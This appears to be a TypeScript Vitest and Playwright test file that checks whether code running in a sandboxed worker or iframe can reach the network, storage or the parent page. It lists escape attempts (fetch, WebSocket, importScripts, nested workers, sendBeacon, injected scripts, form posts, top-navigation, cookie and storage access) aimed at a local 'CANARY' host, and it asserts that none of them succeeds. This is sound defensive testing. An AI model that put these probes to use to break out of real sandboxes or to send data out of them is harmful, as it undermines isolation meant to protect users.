import type { AddressInfo, Server } from "node:net";
import { createServer } from "node:net";
import { fileURLToPath } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launch, type Site, serveSite } from "./chromium.ts";
import type { EscapePage } from "./page/escape-page.ts";

const PAGE = fileURLToPath(new URL("./page/escape.ts", import.meta.url));

/** What a program might try that has got hold of its worker's own global, as if nothing had been taken from it. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fetch: "await fetch('http://CANARY/fetch', { mode: 'no-cors' })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'http://CANARY/xhr', false); x.send()",
  WebSocket: "new WebSocket('ws://CANARY/socket'); await wait(300)",
  EventSource: "new EventSource('http://CANARY/events'); await wait(300)",
  importScripts: "importScripts('http://CANARY/script.js')",
  "import()": "await import('http://CANARY/module.js')",
  "import() of data": "await import('data:text/javascript,export default 1')",
  WebTransport: "await new WebTransport('https://CANARY/transport').ready",
  "a nested worker": "new Worker('http://CANARY/worker.js'); await wait(300)",
  "a nested worker of its own text":
    "const url = URL.createObjectURL(new Blob(['fetch(\"http://CANARY/nested\")'])); new Worker(url); await wait(300)",
  "the page's origin": "await fetch('PAGEpage.js')",
  IndexedDB:
    "await new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = () => reject(open.error) }); say('kept')",
  caches: "await caches.open('x'); say('kept')",
  WebRTC: "say(typeof RTCPeerConnection === 'undefined' ? 'none here' : 'kept')",
  BroadcastChannel: "new BroadcastChannel('x').postMessage('heard')",
};

describe("what a program in a page can reach", () => {
  let browser: Browser;
  let site: Site;
  let page: Page;
  let canary: Server;
  const reached: string[] = [];
  const address = () => `127.0.0.1:${(canary.address() as AddressInfo).port}`;

  beforeAll(async () => {
    canary = createServer((socket) => {
      reached.push("connected");
      socket.on("error", () => undefined);
      socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n");
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    browser = await launch();
    site = await serveSite({ "page.js": PAGE });
    page = await browser.newPage();
    await page.goto(site.url);
  });
  afterAll(async () => {
    await browser?.close();
    await site?.[Symbol.asyncDispose]();
    canary?.close();
  });

  const inFrame = (place: "worker" | "frame", attempt: string) =>
    page.evaluate(
      ([where, text, to]) =>
        (globalThis as unknown as { escapePage: EscapePage }).escapePage.attempt(where, text, to),
      [place, attempt, address()] as const,
    );

  it("has a canary that notices", async () => {
    await page.evaluate((to) => fetch(`http://${to}/`, { mode: "no-cors" }), address());
    expect(reached.splice(0)).not.toEqual([]);
  });

  it.each(Object.entries(ATTEMPTS))(
    "gets nowhere with %s, even with all that a worker has",
    async (_, attempt) => {
      const told = await inFrame("worker", attempt);
      expect(told).not.toContain("kept");
      expect(told).not.toContain("heard");
      expect(reached.splice(0)).toEqual([]);
    },
  );

  // No program runs there: frames within frames and WebRTC could at least connect. The second wall, as far as it goes.
  it.each([
    ["fetch", "await fetch('http://CANARY/fetch', { mode: 'no-cors' })"],
    ["an image", "new Image().src = 'http://CANARY/image'; await wait(300)"],
    ["sendBeacon", "navigator.sendBeacon('http://CANARY/beacon'); await wait(300)"],
    [
      "a script",
      "const s = document.createElement('script'); s.src = 'http://CANARY/s.js'; document.head.append(s); await wait(300)",
    ],
    [
      "a form",
      "const f = document.createElement('form'); f.action = 'http://CANARY/form'; document.documentElement.append(f); f.submit(); await wait(300)",
    ],
    ["a window", "open('http://CANARY/window'); await wait(300)"],
    ["the page's window", "top.location = 'http://CANARY/top'; await wait(300)"],
    ["the page's document", "say(String(parent.document.title) + 'kept')"],
    ["storage", "localStorage.setItem('x', '1'); say('kept')"],
    ["cookies", "document.cookie = 'x=1'; say('kept')"],
  ])("gets nowhere with %s, even in the frame itself", async (_, attempt) => {
    const told = await inFrame("frame", attempt);
    expect(told).not.toContain("kept");
    expect(reached.splice(0)).toEqual([]);
    expect(page.url()).toBe(site.url);
  });
});
